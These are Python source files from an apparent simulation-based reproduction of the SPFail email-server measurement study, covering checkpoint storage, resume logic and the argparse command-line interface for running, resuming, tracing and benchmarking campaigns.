        The ledger lives beside the checkpoint chain but is append-only
        across re-runs of the same config: :meth:`writer` replaces a
        fresh run's checkpoint chain (it describes one execution's
        evidence stream) while carrying the ledger file over, because
        ledger records describe *measurements of* executions — exactly
        what one wants to trend across re-runs.
        """
        from ..obs.ledger import LEDGER_FILENAME

        return os.path.join(self._run_dir(config), LEDGER_FILENAME)

    # -- reading --------------------------------------------------------------

    def runs(self) -> List[str]:
        """Run directory names with a readable manifest, newest first."""
        out = []
        if not os.path.isdir(self.root):
            return out
        for name in os.listdir(self.root):
            manifest = os.path.join(self.root, name, "manifest.json")
            if os.path.isfile(manifest):
                out.append((os.path.getmtime(manifest), name))
        return [name for _, name in sorted(out, reverse=True)]

    def load_latest(self, *, config_hash: Optional[str] = None) -> RunState:
        """The newest usable checkpoint chain (optionally hash-filtered).

        ``config_hash`` pins the run to resume; a mismatch is an error
        listing what the store actually holds, never a silent fallback
        to a different experiment.
        """
        candidates = []
        for name in self.runs():
            manifest = self._read_manifest(name)
            if manifest is None:
                continue
            candidates.append((name, manifest))
        if not candidates:
            raise StoreError(f"no checkpointed runs under {self.root!r}")
        if config_hash is not None:
            matching = [
                (name, manifest)
                for name, manifest in candidates
                if manifest.get("config_hash") == config_hash
            ]
            if not matching:
                available = ", ".join(
                    f"{name} ({manifest.get('config_hash', '?')[:12]})"
                    for name, manifest in candidates
                )
                raise StoreError(
                    f"no stored run matches config hash {config_hash[:12]}; "
                    f"store {self.root!r} holds: {available}"
                )
            candidates = matching
        name, manifest = candidates[0]
        return self._load_run(name, manifest)

    def _read_manifest(self, name: str) -> Optional[dict]:
        path = os.path.join(self.root, name, "manifest.json")
        try:
            with open(path, "r") as handle:
                manifest = json.load(handle)
        except (OSError, ValueError):
            return None
        if manifest.get("version") != MANIFEST_VERSION:
            return None
        return manifest

    def _load_run(self, name: str, manifest: dict) -> RunState:
        from ..api import RunConfig

        run_dir = os.path.join(self.root, name)
        config = RunConfig.from_dict(manifest["config"])
        valid_entries: List[dict] = []
        checkpoints: List[Checkpoint] = []
        for entry in manifest.get("checkpoints", []):
            checkpoint = self._load_checkpoint(run_dir, entry)
            if checkpoint is None:
                # Torn or corrupted file: the chain ends at the entry
                # before it (only the newest write can ever be torn, but
                # a mid-chain hole must not be skipped over either).
                break
            valid_entries.append(entry)
            checkpoints.append(checkpoint)
        if not checkpoints:
            raise StoreError(
                f"run {name!r} has no usable checkpoint (all torn or missing)"
            )
        return RunState(
            run_id=name,
            run_dir=run_dir,
            config=config,
            checkpoint=checkpoints[-1],
            trace_segments=[c.trace_segment for c in checkpoints],
            querylog_segments=[c.querylog_segment for c in checkpoints],
            entries=valid_entries,
        )

    def _load_checkpoint(self, run_dir: str, entry: dict) -> Optional[Checkpoint]:
        path = os.path.join(run_dir, entry["file"])
        try:
            with open(path, "rb") as handle:
                data = handle.read()
        except OSError:
            return None
        if len(data) != entry["size"] or _digest(data) != entry["sha256"]:
            return None
        try:
            checkpoint = pickle.loads(data)
        except Exception:
            return None
        if not isinstance(checkpoint, Checkpoint):
            return None
        if checkpoint.version != CHECKPOINT_VERSION:
            return None
        return checkpoint
