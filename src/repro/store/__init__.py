"""Persistent, crash-safe storage for longitudinal campaign runs.

The paper's headline measurement spans four months of virtual time; at
production scale a crash mid-campaign would discard hours of probing.
This package checkpoints a run after the initial sweep and after every
completed round, atomically, into a directory keyed by the
:class:`repro.api.RunConfig` content hash — and
:meth:`repro.simulation.Simulation.resume` reconstructs the campaign
mid-timeline so it finishes with byte-identical traces and CSVs.

- :class:`RunStore` — the on-disk store (manifest + checkpoint chain);
- :class:`CheckpointWriter` — the campaign-facing writer hooks;
- :class:`RunState` — a loaded checkpoint chain ready to resume;
- :func:`restore_simulation` — rebuild + fast-forward + snapshot install;
- :class:`~repro.errors.CampaignAborted` / :class:`~repro.errors.StoreError`
  — re-exported here for convenience.
"""

from ..errors import CampaignAborted, StoreError
from .checkpoint import (
    CHECKPOINT_VERSION,
    Checkpoint,
    ResumeState,
    RunProvenance,
    capture_checkpoint,
    capture_world_state,
    install_world_state,
    restore_simulation,
)
from .runstore import CheckpointWriter, RunState, RunStore, StoreLock

__all__ = [
    "CHECKPOINT_VERSION",
    "CampaignAborted",
    "Checkpoint",
    "CheckpointWriter",
    "ResumeState",
    "RunProvenance",
    "RunState",
    "RunStore",
    "StoreError",
    "StoreLock",
    "capture_checkpoint",
    "capture_world_state",
    "install_world_state",
    "restore_simulation",
]
