"""Checkpoint capture and restore for longitudinal campaigns.

A checkpoint must let a *fresh* process reproduce the exact state of a
campaign that has completed ``k`` rounds, down to every RNG stream,
greylist timestamp, and DNS cache entry — because the acceptance bar for
resume is byte-identical traces and CSVs, not "close enough".

The split of labor is deliberate:

- **Rebuilt, not snapshotted** — everything :meth:`Simulation.build`
  derives deterministically from the :class:`~repro.api.RunConfig`:
  population, fleet, geography, patch plans, notification RNG.  Under
  the lazy world, patch and move *effects* are not scheduled events at
  all — each server folds them in as pure functions of the clock on
  first touch (see "Lazy world construction" in ``DESIGN.md``) — so
  re-running the build and fast-forwarding the clock to the checkpoint
  instant (replaying the notification at the recorded clock reading)
  reproduces all of it without crossing the pickle boundary.

- **Snapshotted** — the mutable state those events and ``k`` rounds of
  probing left behind: per-server session counters, greylist/blacklist
  memory and banner-noise RNG, network/ethics counters, label
  allocations, the resolver cache (cache warmth changes observed query
  counts), preferred probe methods, and the executor's world-event
  history (how a process-executor worker respawned mid-timeline catches
  up).

Evidence (trace events, query-log entries) is stored as *delta
segments* — everything since the previous checkpoint — so checkpoint
cost stays proportional to one round and the full chain concatenates
back into the uninterrupted evidence stream.
"""

from __future__ import annotations

import datetime as _dt
from dataclasses import dataclass, field
from typing import Dict, List, Optional, TYPE_CHECKING

if TYPE_CHECKING:
    from ..core.campaign import InitialMeasurement, MeasurementRound
    from ..simulation import Simulation

#: bump when the checkpoint payload shape changes incompatibly.
CHECKPOINT_VERSION = 1


@dataclass
class Checkpoint:
    """One atomic unit of persisted campaign progress (picklable)."""

    kind: str  # "initial" | "round"
    clock_now: _dt.datetime
    notified: bool
    notified_clock: Optional[_dt.datetime]
    initial: "InitialMeasurement"
    rounds: List["MeasurementRound"]
    #: mutable world snapshot (see :func:`capture_world_state`).
    world: dict
    #: process-executor world-event history (stage assignments +
    #: notifications); empty for the serial/sharded strategies.
    executor_history: List[object]
    executor_stages_run: int
    #: per-stage executor metrics accumulated so far (provenance only).
    executor_stage_metrics: List[object]
    #: cumulative :meth:`MetricsRegistry.snapshot` (None when unobserved).
    metrics_snapshot: Optional[dict]
    #: trace events emitted since the previous checkpoint.
    trace_segment: List[object]
    #: query-log entries recorded since the previous checkpoint.
    querylog_segment: List[object]
    #: stage ordinals consumed so far (re-seeds the resumed tracer).
    stages_begun: int
    version: int = CHECKPOINT_VERSION


@dataclass
class ResumeState:
    """Restored progress handed to :meth:`MeasurementCampaign.resume_run`."""

    rounds: List["MeasurementRound"]
    notified: bool
    notification_report: Optional[object]


@dataclass
class RunProvenance:
    """Where a resumed simulation came from (for reports/debugging)."""

    run_id: str
    config_hash: str
    checkpoint_kind: str
    rounds_completed: int
    clock_now: _dt.datetime


# -- capture ------------------------------------------------------------------


def capture_world_state(sim: "Simulation") -> dict:
    """Snapshot every mutable value the rebuild cannot reproduce.

    Servers are included only when they accepted at least one session:
    every server-side mutation (inbox, greylist, blacklist, crash count,
    banner-noise draws, stub query ids) happens inside a session, so an
    untouched server is already in its rebuilt state.  Under the process
    executor the parent's servers never accept sessions at all (probing
    happens in the shard replicas, which rebuild from the event
    history), which keeps this snapshot uniformly small.
    """
    campaign = sim.campaign
    servers: Dict[str, dict] = {}
    for ip, server in campaign.network._servers.items():
        if server.sessions_accepted == 0:
            continue
        servers[ip] = {
            "sessions_accepted": server.sessions_accepted,
            "crash_count": server.crash_count,
            "blacklisted": server._blacklisted,
            "greylist": dict(server._greylist_first_seen),
            "inbox": list(server.inbox),
            "noise_state": server._noise.getstate(),
            "stub_next_id": (
                server.resolver._next_id if server.resolver is not None else None
            ),
        }
    resolver = campaign.resolver
    labels = campaign.labels
    ethics = campaign.ethics
    network = campaign.network
    return {
        "servers": servers,
        "network": {
            "connection_attempts": network.connection_attempts,
            "connections_established": network.connections_established,
        },
        "ethics": {
            "last_contact": dict(ethics._last_contact),
            "active": ethics._active,
            "peak_concurrency": ethics.peak_concurrency,
            "connections_opened": ethics.connections_opened,
        },
        "labels": {
            "next_suite": labels._next_suite,
            "next_id": dict(labels._next_id),
            "ip_for_label": dict(labels._ip_for_label),
        },
        "resolver": {
            "cache": dict(resolver._cache),
            "query_count": resolver.query_count,
            "cache_hits": resolver.cache_hits,
        },
        "stub_next_id": campaign._stub._next_id,
        "preferred": dict(campaign._preferred),
        "ip_domain": dict(campaign._ip_domain),
    }


def capture_checkpoint(
    sim: "Simulation",
    *,
    kind: str,
    rounds: List["MeasurementRound"],
    notified: bool,
    trace_mark: int,
    qlog_mark: int,
) -> Checkpoint:
    """Build the checkpoint payload for the campaign's current state.

    ``trace_mark``/``qlog_mark`` are the positions up to which previous
    checkpoints already persisted evidence; only the delta is stored.
    """
    campaign = sim.campaign
    executor = campaign.executor
    obs = sim.observation
    tracing = obs is not None and obs.tracer.enabled
    return Checkpoint(
        kind=kind,
        clock_now=campaign.clock.now,
        notified=notified,
        notified_clock=campaign._notified_clock,
        initial=campaign._require_initial(),
        rounds=list(rounds),
        world=capture_world_state(sim),
        executor_history=list(getattr(executor, "_history", ())),
        executor_stages_run=getattr(executor, "_stages_run", 0),
        executor_stage_metrics=list(executor.metrics.stages),
        metrics_snapshot=obs.metrics.snapshot() if obs is not None else None,
        trace_segment=obs.tracer.events_since(trace_mark) if tracing else [],
        querylog_segment=campaign.responder.log.entries_since(qlog_mark),
        stages_begun=obs.tracer.open_stage_ordinal() if obs is not None else 0,
    )


# -- restore ------------------------------------------------------------------


def install_world_state(sim: "Simulation", state: dict) -> None:
    """Overwrite the rebuilt world's mutable state with a snapshot."""
    campaign = sim.campaign
    for ip, snap in state["servers"].items():
        server = campaign.network.server_at(ip)
        server.sessions_accepted = snap["sessions_accepted"]
        server.crash_count = snap["crash_count"]
        server._blacklisted = snap["blacklisted"]
        server._greylist_first_seen = dict(snap["greylist"])
        server.inbox = list(snap["inbox"])
        server._noise.setstate(snap["noise_state"])
        if snap["stub_next_id"] is not None and server.resolver is not None:
            server.resolver._next_id = snap["stub_next_id"]
    network = campaign.network
    network.connection_attempts = state["network"]["connection_attempts"]
    network.connections_established = state["network"]["connections_established"]
    ethics = campaign.ethics
    ethics._last_contact = dict(state["ethics"]["last_contact"])
    ethics._active = state["ethics"]["active"]
    ethics.peak_concurrency = state["ethics"]["peak_concurrency"]
    ethics.connections_opened = state["ethics"]["connections_opened"]
    labels = campaign.labels
    labels._next_suite = state["labels"]["next_suite"]
    labels._next_id = dict(state["labels"]["next_id"])
    labels._ip_for_label = dict(state["labels"]["ip_for_label"])
    resolver = campaign.resolver
    resolver._cache = dict(state["resolver"]["cache"])
    resolver.query_count = state["resolver"]["query_count"]
    resolver.cache_hits = state["resolver"]["cache_hits"]
    campaign._stub._next_id = state["stub_next_id"]
    campaign._preferred = dict(state["preferred"])
    campaign._ip_domain = dict(state["ip_domain"])


def restore_simulation(sim: "Simulation", state) -> None:
    """Bring a freshly built simulation to a checkpoint's exact state.

    ``state`` is a :class:`repro.store.RunState`.  The order matters:

    1. **Replay the notification** (if the checkpoint is past it) at the
       recorded clock reading — this consumes the same notification-RNG
       draws and schedules the same email-open callbacks the original
       run scheduled.
    2. **Fast-forward the clock** to the checkpoint instant, looping
       until quiescent: callbacks scheduled *during* an advance (an
       open that triggers a patch-plan override) land after the
       due-list was computed, so a single ``advance_to`` can leave
       strictly-due work pending.  Every RNG-consuming callback fires
       in chronological order in both runs; patch and move *effects*
       need no replay — they are pure functions of the clock, folded
       into each server on touch.
    3. **Install the mutable snapshot** over the rebuilt world.
    4. **Restore the executor's event history** so process workers can
       respawn mid-timeline by replaying it (``_sent`` stays empty: the
       next stage ships the full history to each fresh worker).
    5. **Stitch the evidence**: merge the cumulative metrics snapshot,
       ingest the trace and query-log delta segments in checkpoint
       order, and re-seed stage numbering.
    """
    checkpoint = state.checkpoint
    campaign = sim.campaign
    clock = campaign.clock

    if checkpoint.notified:
        clock.advance_to(max(clock.now, checkpoint.notified_clock))
        notification_report = sim.notification.send_notifications(
            checkpoint.initial.vulnerable_domains(),
            campaign.config.notification_date,
        )
        # The executor's restored history already contains this
        # notification's NotifyEvent; record_notification must NOT run
        # again here or replicas would replay it twice.
    else:
        notification_report = None

    clock.advance_to(max(clock.now, checkpoint.clock_now))
    while clock.next_scheduled(until=clock.now) is not None:
        clock.advance_to(clock.now)

    install_world_state(sim, checkpoint.world)
    campaign.initial = checkpoint.initial
    campaign._notified_clock = checkpoint.notified_clock

    executor = campaign.executor
    if hasattr(executor, "_history"):
        executor._history = list(checkpoint.executor_history)
        executor._stages_run = checkpoint.executor_stages_run
    executor.metrics.stages = list(checkpoint.executor_stage_metrics)

    obs = sim.observation
    if obs is not None:
        if checkpoint.metrics_snapshot is not None:
            obs.metrics.merge(checkpoint.metrics_snapshot)
        if obs.tracer.enabled:
            obs.tracer.stitch(
                state.trace_segments, stages_begun=checkpoint.stages_begun
            )
    campaign.responder.log.ingest(
        entry for segment in state.querylog_segments for entry in segment
    )

    sim._resume = ResumeState(
        rounds=list(checkpoint.rounds),
        notified=checkpoint.notified,
        notification_report=notification_report,
    )
    # A store writer attached to this simulation continues the same
    # chain: it must keep the valid manifest prefix it resumed from.
    sim._store_entries = list(state.entries)
    sim.provenance = RunProvenance(
        run_id=state.run_id,
        config_hash=state.config.content_hash(),
        checkpoint_kind=checkpoint.kind,
        rounds_completed=len(checkpoint.rounds),
        clock_now=checkpoint.clock_now,
    )
