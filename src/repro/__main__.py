"""``python -m repro``: thin shim over :mod:`repro.cli`.

The implementation lives in the :mod:`repro.cli` package (one module
per subcommand); this module only keeps the historical import surface —
``from repro.__main__ import ARTIFACT_NAMES, main`` — working.
"""

from __future__ import annotations

import sys

from .cli import ARTIFACT_NAMES, main

__all__ = ["ARTIFACT_NAMES", "main"]

if __name__ == "__main__":
    sys.exit(main())
