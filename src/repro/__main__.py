"""Command-line entry point: run the SPFail reproduction.

Usage::

    python -m repro run                   # full campaign at scale 0.01
    python -m repro run --scale 0.02      # bigger synthetic Internet
    python -m repro run --artifact table4 # one table/figure only
    python -m repro run --list            # available artifacts
    python -m repro run --trace t.jsonl --metrics-out m.json  # observability
    python -m repro run --store runs/     # checkpoint after every round
    python -m repro resume --store runs/  # continue an interrupted campaign
    python -m repro trace summary t.jsonl # analyze a captured trace
    python -m repro trace diff a.jsonl b.jsonl   # pinpoint first divergence
    python -m repro run --ledger perf.jsonl      # append a perf-ledger record
    python -m repro obs history perf.jsonl       # cross-run trend tables
    python -m repro obs regress BASE CAND        # noise-gated regression gate

The parser is structured around the ``run`` / ``resume`` / ``trace`` /
``obs`` subcommands.  The pre-subcommand invocation (``python -m repro
--scale 0.02 ...``) keeps working with a deprecation notice: every run
flag still exists at the top level with the same defaults.
"""

from __future__ import annotations

import argparse
import json
import sys
from typing import Callable, Dict, Optional

from . import analysis
from .obs import Observation, attach_trace_handler, configure_logging
from .obs.logbridge import LEVELS
from .simulation import Simulation


def _artifact_registry(sim: Simulation) -> Dict[str, Callable[[], str]]:
    result = sim.run()
    return {
        "table1": lambda: analysis.render_table1(analysis.build_table1(sim.population)),
        "table2": lambda: analysis.render_table2(analysis.build_table2(sim.population)),
        "table3": lambda: analysis.render_table3(
            analysis.build_table3(sim.population, result.initial)
        ),
        "table4": lambda: analysis.render_table4(
            analysis.build_table4(sim.population, result.initial)
        ),
        "table5": lambda: analysis.render_table5(analysis.build_table5(sim)),
        "table6": lambda: analysis.render_table6(analysis.build_table6()),
        "table7": lambda: analysis.render_table7(analysis.build_table7(result.initial)),
        "figure2": lambda: analysis.render_figure2(analysis.build_figure2(sim)),
        "figure3": lambda: analysis.render_figure3(analysis.build_figure3(sim)),
        "figure4": lambda: analysis.render_figure4(analysis.build_figure4(sim)),
        "figure5": lambda: analysis.render_figure5(analysis.build_figure5(sim)),
        "figure6": lambda: analysis.render_figure6(analysis.build_figure6(sim)),
        "figure7": lambda: analysis.render_figure7(analysis.build_figure7(sim)),
        "figure8": lambda: analysis.render_figure8(analysis.build_figure8(sim)),
        "notification": lambda: analysis.render_notification_funnel(
            analysis.build_notification_funnel(sim)
        ),
    }


ARTIFACT_NAMES = (
    "table1", "table2", "table3", "table4", "table5", "table6", "table7",
    "figure2", "figure3", "figure4", "figure5", "figure6", "figure7",
    "figure8", "notification",
)


# -- parser ---------------------------------------------------------------------


def _add_run_flags(
    parser: argparse.ArgumentParser, *, suppress: bool = False
) -> None:
    """The campaign-run flags.

    With ``suppress=True`` (the ``run`` subcommand) every flag defaults
    to ``argparse.SUPPRESS``: the top-level parser has already installed
    the real defaults on the shared namespace, and the subcommand must
    only override what the user typed after ``run``.
    """

    def add(*names, default, **kwargs):
        parser.add_argument(
            *names, default=argparse.SUPPRESS if suppress else default, **kwargs
        )

    add(
        "--scale", type=float, default=0.01,
        help="population scale relative to the paper's 441K domains (default 0.01)",
    )
    add("--seed", type=int, default=20211011, help="simulation seed")
    add(
        "--workers", type=int, default=1, metavar="N",
        help="probe-execution worker count (N>1 selects the sharded executor; "
        "with --executor process, the worker-process/shard count)",
    )
    add(
        "--executor", choices=("serial", "sharded", "process"), default=None,
        help="probe-execution strategy (default: derived from --workers); "
        "'process' escapes the GIL by probing shard-local world replicas "
        "in worker processes; results are byte-identical across strategies "
        "for the same seed",
    )
    add(
        "--world", choices=("lazy", "eager"), default="lazy",
        help="world materialization strategy: 'lazy' builds servers on "
        "first touch (memory tracks the probed set); 'eager' pre-builds "
        "every server up front; artifacts are byte-identical either way",
    )
    add(
        "--artifact", choices=ARTIFACT_NAMES, action="append", default=None,
        help="regenerate only the named table/figure (repeatable)",
    )
    add(
        "--list", action="store_true", default=False,
        help="list available artifacts and exit",
    )
    add(
        "--report", metavar="FILE", default=None,
        help="write the full paper-vs-measured markdown report to FILE",
    )
    add(
        "--export-csv", metavar="DIR", default=None,
        help="write machine-readable CSVs for the key series to DIR",
    )
    add(
        "--trace", metavar="FILE", default=None,
        help="write a canonically ordered virtual-time trace (JSONL) to FILE; "
        "byte-identical across executor strategies for the same seed",
    )
    add(
        "--metrics-out", metavar="FILE", default=None,
        help="write the observability metrics registry (JSON) to FILE",
    )
    add(
        "--log-level", choices=sorted(LEVELS), default=None,
        help="enable stdlib logging for the 'repro' logger at this level",
    )
    add(
        "--progress", action="store_true", default=False,
        help="render live stage progress (tasks, probes/s, ETA) to stderr; "
        "never alters trace, report, or CSV output",
    )
    add(
        "--perf", metavar="DIR", default=None,
        help="record wall-clock span timings and resource samples into DIR "
        "(a sideband: trace, report, and CSV bytes are unchanged); implies "
        "tracing; inspect with `python -m repro trace profile`",
    )
    add(
        "--ledger", metavar="FILE", default=None,
        help="append one performance-ledger record for this run to FILE "
        "(config hash, env + git commit, throughput, stage wall "
        "attribution when --perf is on); with --store a record also "
        "lands in the run directory's ledger.jsonl; inspect with "
        "`python -m repro obs history` / `obs regress`",
    )


def _build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="python -m repro",
        description="Run the SPFail (IMC 2022) reproduction campaign.",
    )
    # Legacy pre-subcommand interface: same flags, same defaults, plus a
    # deprecation notice at runtime.  These defaults also seed the shared
    # namespace the subcommands override selectively.
    _add_run_flags(parser)

    sub = parser.add_subparsers(dest="command", metavar="{run,resume,trace}")

    run = sub.add_parser(
        "run", help="run the campaign (optionally checkpointing into a store)"
    )
    _add_run_flags(run, suppress=True)
    run.add_argument(
        "--store", metavar="DIR", default=argparse.SUPPRESS,
        help="checkpoint the run into this store directory after the initial "
        "sweep and after every completed round (resume with "
        "`python -m repro resume --store DIR`)",
    )
    run.add_argument(
        "--abort-after-round", type=int, metavar="N", default=argparse.SUPPRESS,
        help="fault injection: abort the run right after round N's checkpoint "
        "is persisted (requires --store); used by the interrupt-and-resume "
        "CI smoke job and the resume tests",
    )

    resume = sub.add_parser(
        "resume", help="continue a checkpointed campaign from its store"
    )
    resume.add_argument(
        "--store", metavar="DIR", required=True,
        help="store directory previously populated by `run --store`",
    )
    resume.add_argument(
        "--scale", type=float, dest="resume_scale", default=argparse.SUPPRESS,
        help="expected population scale; resume refuses (with the stored "
        "hashes listed) unless a stored run's config hash matches",
    )
    resume.add_argument(
        "--seed", type=int, dest="resume_seed", default=argparse.SUPPRESS,
        help="expected simulation seed (see --scale)",
    )
    resume.add_argument(
        "--workers", type=int, dest="resume_workers", metavar="N",
        default=argparse.SUPPRESS,
        help="override the stored worker count (results are identical "
        "across strategies, so this is always safe)",
    )
    resume.add_argument(
        "--executor", choices=("serial", "sharded", "process"),
        dest="resume_executor", default=argparse.SUPPRESS,
        help="override the stored probe-execution strategy (see --workers)",
    )
    _add_output_flags(resume)

    trace = sub.add_parser(
        "trace", help="analyze or diff traces produced by --trace"
    )
    trace_sub = trace.add_subparsers(dest="trace_command", required=True)

    summary = trace_sub.add_parser(
        "summary",
        help="stage/span/critical-path summary of one trace (markdown)",
    )
    summary.add_argument("file", help="canonical JSONL trace file")
    summary.add_argument(
        "--out", metavar="FILE", default=None,
        help="write the markdown summary to FILE instead of stdout",
    )
    summary.add_argument(
        "--folded", metavar="FILE", default=None,
        help="also write folded-stack lines (flamegraph input) to FILE",
    )
    summary.add_argument(
        "--top", type=int, default=20, metavar="N",
        help="event names listed in the counts table (default 20)",
    )
    summary.add_argument(
        "--json", metavar="FILE", default=None,
        help="also write the machine-readable stage/span/critical-path "
        "tables as JSON to FILE ('-' for stdout; suppresses the default "
        "markdown-to-stdout unless --out is given)",
    )

    diff = trace_sub.add_parser(
        "diff",
        help="compare two traces; pinpoint the first divergent event",
    )
    diff.add_argument("left", help="baseline trace (JSONL)")
    diff.add_argument("right", help="candidate trace (JSONL)")
    diff.add_argument(
        "--context", type=int, default=3, metavar="N",
        help="shared events shown before the divergence (default 3)",
    )

    profile = trace_sub.add_parser(
        "profile",
        help="join a trace with its --perf sideband: wall-vs-virtual "
        "attribution, hottest spans, cache efficiency, wall flamegraphs",
    )
    profile.add_argument("file", help="canonical JSONL trace file")
    profile.add_argument(
        "--perf", metavar="DIR", required=True,
        help="perf sideband directory written by `run --perf DIR`",
    )
    profile.add_argument(
        "--out", metavar="FILE", default=None,
        help="write the markdown profile to FILE instead of stdout",
    )
    profile.add_argument(
        "--folded", metavar="FILE", default=None,
        help="also write wall-clock folded stacks (flamegraph input) to FILE",
    )
    profile.add_argument(
        "--top", type=int, default=15, metavar="N",
        help="span types listed in the hottest-spans table (default 15)",
    )
    profile.add_argument(
        "--json", metavar="FILE", default=None,
        help="also write the machine-readable wall-vs-virtual attribution "
        "as JSON to FILE ('-' for stdout; suppresses the default "
        "markdown-to-stdout unless --out is given); the 'stages' rows "
        "are exactly what a profiled run's ledger record embeds",
    )

    obs = sub.add_parser(
        "obs", help="cross-run performance ledger: history and regression gate"
    )
    obs_sub = obs.add_subparsers(dest="obs_command", required=True)

    history = obs_sub.add_parser(
        "history",
        help="trend tables over a ledger (per metric, exact percentiles)",
    )
    history.add_argument(
        "ledger",
        help="ledger JSONL file, a run directory holding ledger.jsonl, or "
        "a single-record .json file",
    )
    history.add_argument(
        "--metric", action="append", metavar="NAME", default=None,
        help="metric column(s) to trend (repeatable; default "
        "probes_per_second and wall_seconds)",
    )
    history.add_argument(
        "--config-hash", metavar="PREFIX", default=None,
        help="only records whose RunConfig content hash starts with PREFIX",
    )
    history.add_argument(
        "--kind", action="append", metavar="KIND", default=None,
        help="only records of this kind (run/resume/record/bench; repeatable)",
    )
    history.add_argument(
        "--last", type=int, metavar="N", default=None,
        help="only the N most recent matching records",
    )
    history.add_argument(
        "--json", metavar="FILE", default=None,
        help="write the trend data as JSON to FILE ('-' for stdout) "
        "instead of markdown",
    )

    regress = obs_sub.add_parser(
        "regress",
        help="compare two ledger slices; exit 1 only on a CONFIRMED "
        "(noise-cleared) regression",
    )
    regress.add_argument(
        "baseline",
        help="baseline slice: ledger JSONL, run dir, or single-record .json "
        "(e.g. a committed benchmarks/BASELINE.json)",
    )
    regress.add_argument("candidate", help="candidate slice (same spellings)")
    regress.add_argument(
        "--metric", default="probes_per_second", metavar="NAME",
        help="metric to compare (default probes_per_second)",
    )
    regress.add_argument(
        "--threshold", type=float, default=0.15, metavar="FRAC",
        help="regression budget as a fraction (default 0.15 = 15%%)",
    )
    regress.add_argument(
        "--noise", type=float, default=0.0, metavar="FRAC",
        help="noise-gate floor: the machine's known identical-run wall "
        "spread; folded in with any noise the records themselves declare "
        "and the measured baseline spread (default 0)",
    )
    regress.add_argument(
        "--config-hash", metavar="PREFIX", default=None,
        help="filter both slices to records whose config hash starts "
        "with PREFIX",
    )
    regress.add_argument(
        "--last", type=int, metavar="N", default=None,
        help="use only the N most recent matching records of each slice",
    )
    regress.add_argument(
        "--json", metavar="FILE", default=None,
        help="also write the full comparison verdict as JSON to FILE "
        "('-' for stdout)",
    )

    record = obs_sub.add_parser(
        "record",
        help="append a ledger record for an existing run directory "
        "retroactively",
    )
    record.add_argument(
        "run_dir",
        help="a RunStore run directory (holds config.json / manifest.json)",
    )
    record.add_argument(
        "--ledger", metavar="FILE", default=None,
        help="append to FILE instead of <run_dir>/ledger.jsonl",
    )
    record.add_argument(
        "--metrics", metavar="FILE", default=None,
        help="join executor wall/throughput totals from a --metrics-out "
        "JSON file of that run",
    )
    record.add_argument(
        "--trace", metavar="FILE", default=None,
        help="canonical trace of that run (with --perf: join per-stage "
        "wall attribution)",
    )
    record.add_argument(
        "--perf", metavar="DIR", default=None,
        help="perf sideband directory of that run (requires --trace)",
    )
    record.add_argument(
        "--noise", type=float, default=None, metavar="FRAC",
        help="declare the machine's measured identical-run wall spread in "
        "the record, so later comparisons gate on it",
    )
    return parser


def _add_output_flags(parser: argparse.ArgumentParser) -> None:
    """Artifact/observability outputs shared by ``run`` and ``resume``.

    ``SUPPRESS`` defaults: the top-level parser already seeded the shared
    namespace with the real defaults.
    """
    parser.add_argument(
        "--artifact", choices=ARTIFACT_NAMES, action="append",
        default=argparse.SUPPRESS,
        help="regenerate only the named table/figure (repeatable)",
    )
    parser.add_argument(
        "--report", metavar="FILE", default=argparse.SUPPRESS,
        help="write the full paper-vs-measured markdown report to FILE",
    )
    parser.add_argument(
        "--export-csv", metavar="DIR", default=argparse.SUPPRESS,
        help="write machine-readable CSVs for the key series to DIR",
    )
    parser.add_argument(
        "--trace", metavar="FILE", default=argparse.SUPPRESS,
        help="write the canonical virtual-time trace (JSONL) to FILE; "
        "byte-identical to the uninterrupted run's trace",
    )
    parser.add_argument(
        "--metrics-out", metavar="FILE", default=argparse.SUPPRESS,
        help="write the observability metrics registry (JSON) to FILE",
    )
    parser.add_argument(
        "--log-level", choices=sorted(LEVELS), default=argparse.SUPPRESS,
        help="enable stdlib logging for the 'repro' logger at this level",
    )
    parser.add_argument(
        "--progress", action="store_true", default=argparse.SUPPRESS,
        help="render live stage progress to stderr",
    )
    parser.add_argument(
        "--perf", metavar="DIR", default=argparse.SUPPRESS,
        help="record wall-clock span timings and resource samples into DIR "
        "(sideband only; canonical artifacts unchanged)",
    )
    parser.add_argument(
        "--ledger", metavar="FILE", default=argparse.SUPPRESS,
        help="append one performance-ledger record for the resumed run to "
        "FILE (a record also lands in the run directory's ledger.jsonl)",
    )


# -- trace subcommands -----------------------------------------------------------


def _write_json_payload(dest: str, payload, *, label: str) -> None:
    """Write a JSON document to a file, or to stdout when dest is ``-``."""
    text = json.dumps(payload, indent=2, sort_keys=True)
    if dest == "-":
        print(text)
        return
    with open(dest, "w") as handle:
        handle.write(text + "\n")
    print(f"{label} written to {dest}", file=sys.stderr)


def _trace_summary(args: argparse.Namespace) -> int:
    from .obs.analyze import TraceAnalysis

    analysis_ = TraceAnalysis.from_file(args.file)
    if args.out or not args.json:
        text = analysis_.render_markdown(top_events=args.top)
        if args.out:
            with open(args.out, "w") as handle:
                handle.write(text)
            print(f"summary written to {args.out}")
        else:
            print(text)
    if args.json:
        _write_json_payload(
            args.json, analysis_.to_dict(top_events=args.top), label="summary JSON"
        )
    if args.folded:
        folded = analysis_.folded_stacks()
        with open(args.folded, "w") as handle:
            if folded:
                handle.write(folded + "\n")
        print(f"folded stacks written to {args.folded}", file=sys.stderr)
    return 0


def _trace_profile(args: argparse.Namespace) -> int:
    from .obs.perf import PerfProfile

    profile = PerfProfile.load(args.file, args.perf)
    if args.out or not args.json:
        text = profile.render_markdown(top_spans=args.top)
        if args.out:
            with open(args.out, "w") as handle:
                handle.write(text)
            print(f"profile written to {args.out}")
        else:
            print(text)
    if args.json:
        _write_json_payload(
            args.json, profile.to_dict(top_spans=args.top), label="profile JSON"
        )
    if args.folded:
        folded = profile.folded_wall_stacks()
        with open(args.folded, "w") as handle:
            if folded:
                handle.write(folded + "\n")
        print(f"folded wall stacks written to {args.folded}", file=sys.stderr)
    return 0


# -- obs subcommands (the performance ledger) ------------------------------------


def _obs_history(args: argparse.Namespace) -> int:
    from .obs.ledger import (
        DEFAULT_HISTORY_METRICS,
        LedgerError,
        filter_records,
        history_dict,
        load_slice,
        render_history,
    )

    try:
        records = filter_records(
            load_slice(args.ledger),
            config_hash=args.config_hash,
            kinds=args.kind,
            last=args.last,
        )
    except LedgerError as error:
        print(f"obs history failed: {error}", file=sys.stderr)
        return 2
    metrics = args.metric or list(DEFAULT_HISTORY_METRICS)
    if args.json:
        _write_json_payload(
            args.json, history_dict(records, metrics), label="history JSON"
        )
    else:
        print(render_history(records, metrics))
    return 0


